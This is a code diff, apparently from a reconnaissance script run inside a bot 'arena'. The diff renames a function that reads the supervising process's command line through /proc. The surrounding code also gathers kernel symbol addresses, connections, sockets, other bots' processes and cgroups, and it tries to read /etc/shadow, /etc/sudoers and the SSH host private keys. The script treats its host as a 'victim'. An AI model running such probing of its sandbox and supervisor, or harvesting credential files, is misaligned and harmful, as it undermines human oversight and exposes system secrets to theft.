@@ -36,11 +36,11 @@ def name_of_victim():
         return file.read()
 
 
-def words_of_the_keeper():
-    """Reads the arguments of the keeper, the parent of this program's parent. They would name the arena's folders and groups."""
+def words_of_the_supervisor():
+    """Reads the arguments of the supervisor, the parent of this program's parent. They would name the arena's folders and groups."""
     with open(f"/proc/{os.getppid()}/stat", "rb") as file:
-        keeper = int(file.read().rsplit(b")", 1)[1].split()[1])
-    with open(f"/proc/{keeper}/cmdline", "rb") as file:
+        supervisor = int(file.read().rsplit(b")", 1)[1].split()[1])
+    with open(f"/proc/{supervisor}/cmdline", "rb") as file:
         return file.read().strip(b"\0")
 
 
@@ -115,7 +115,7 @@ def control_groups():
 
 
 run({
-    "environment": environment, "command-line": name_of_victim, "keeper": words_of_the_keeper, "kallsyms": addresses_of_the_kernel, "connections": connections,
+    "environment": environment, "command-line": name_of_victim, "supervisor": words_of_the_supervisor, "kallsyms": addresses_of_the_kernel, "connections": connections,
     "sockets": sockets, "locks": locks, "list": listing, "list-home": home, "exists": exists, "processes": processes,
     "arena": other_bots, "cgroups": control_groups,
     "shadow": first("/etc/shadow", "/etc/gshadow"), "sudoers": first("/etc/sudoers"), "host-keys": first("/etc/ssh/ssh_host_*_key"),
